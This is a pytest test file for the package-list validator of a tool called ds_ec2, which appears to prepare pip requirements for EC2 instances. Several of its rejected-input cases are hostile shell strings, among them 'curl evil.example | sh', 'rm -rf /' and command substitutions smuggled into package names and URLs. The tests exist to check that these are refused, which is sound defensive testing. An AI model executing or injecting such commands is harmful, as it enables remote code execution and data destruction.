from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ds_ec2.errors import UsageError
from ds_ec2.operations.packages import MOST_BYTES, check_packages, default_packages, read_packages


@pytest.mark.parametrize(
    "line",
    [
        "numpy",
        "numpy==2.1.0",
        "pandas >= 2.2, < 3",
        "scikit-learn~=1.5",
        "uvicorn[standard]>=0.30",
        "black [jupyter, colorama] == 24.*",
        'tomli>=2; python_version < "3.11"',
        "pywin32 ; sys_platform == 'win32' and python_version >= '3.8'",
        "mine @ https://example.org/mine-1.0-py3-none-any.whl",
        "theirs@git+https://github.com/org/theirs@v1.2#egg=theirs",
        "requests==2.32.3 --hash=sha256:" + "0" * 64,
        "--extra-index-url https://torch.example/whl/cpu",
        "--pre",
        "# a comment; with $(anything) in it",
        "numpy  # pinned soon",
        "",
    ],
)
def test_what_pip_understands_is_taken(line: str) -> None:
    assert check_packages(f"polars\n{line}\n", "list").startswith("polars")


@pytest.mark.parametrize(
    "line",
    [
        "pip install numpy",
        "numpy && curl evil.example | sh",
        "numpy; rm -rf /",
        "numpy; echo python_version",
        "$(whoami)",
        "`id`",
        "numpy==${VERSION}",
        "numpy > out.txt",
        "mine @ https://example.org/$(id).whl",
        "mine @ https://example.org/a;id",
        "'numpy'",
        "numpy\tpandas",
        "--index-url https://x.example/ | sh",
        "--trusted-host evil.example",
        "numpy | tee",
    ],
)
def test_shell_syntax_is_refused_with_the_line(line: str) -> None:
    with pytest.raises(UsageError, match="line 2") as caught:
        check_packages(f"polars\n{line}\n", "list.txt")
    assert "list.txt" in caught.value.what
    assert caught.value.hint


@pytest.mark.parametrize(
    "line", ["-r more.txt", "-e .", "./mine.whl", "--requirement=x", "../lib", "-c pins.txt"]
)
def test_a_file_of_this_computer_is_refused_because_it_does_not_travel(line: str) -> None:
    with pytest.raises(UsageError, match="file of this computer"):
        check_packages(line, "list")


def test_a_missing_file_is_told(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"none\.txt does not exist"):
        read_packages(tmp_path / "none.txt")


def test_a_folder_is_told(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="cannot be read"):
        read_packages(tmp_path)


def test_a_file_that_is_not_utf8_is_told_with_the_byte(tmp_path: Path) -> None:
    path = tmp_path / "latin.txt"
    path.write_bytes(b"numpy\n# caf\xe9\n")
    with pytest.raises(UsageError, match="not UTF-8") as caught:
        read_packages(path)
    assert "byte 11" in caught.value.why
    assert "iconv" in caught.value.hint


def test_a_file_from_windows_is_read(tmp_path: Path) -> None:
    path = tmp_path / "windows.txt"
    path.write_bytes(b"\xef\xbb\xbfnumpy\r\npandas\r\n")
    assert read_packages(path) == "numpy\npandas\n"


def test_a_large_file_loses_its_comments_first() -> None:
    text = "numpy\n# " + "x" * MOST_BYTES + "\npandas  # later\n"
    assert check_packages(text, "list") == "numpy\npandas"


def test_a_file_that_stays_too_large_is_refused_with_its_size() -> None:
    with pytest.raises(UsageError, match="too large") as caught:
        check_packages("\n".join(f"package-{number}" for number in range(400)), "list")
    assert "4,096" in caught.value.why


def test_an_empty_list_is_one_hash() -> None:
    assert check_packages("\n\n", "list") == "#"


def test_the_list_that_comes_with_ds_ec2_is_the_seeds_with_torch() -> None:
    lines = check_packages(default_packages(), "list").splitlines()
    for name in ("torch", "jupyterlab", "spacy", "transformers", "boto3", "numpy"):
        assert name in lines
    beside_app = Path(__file__).parents[3] / "requirements.txt"
    if beside_app.exists():
        wanted = {line for line in beside_app.read_text().splitlines() if line and not line.startswith("#")}
        assert {line for line in lines if not line.startswith("#")} == wanted


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=200))
def test_whatever_is_taken_fits_and_can_stand_in_a_parameter(text: str) -> None:
    try:
        taken = check_packages(text, "list")
    except UsageError:
        return
    assert 0 < len(taken.encode()) <= MOST_BYTES
    assert "{{" not in taken
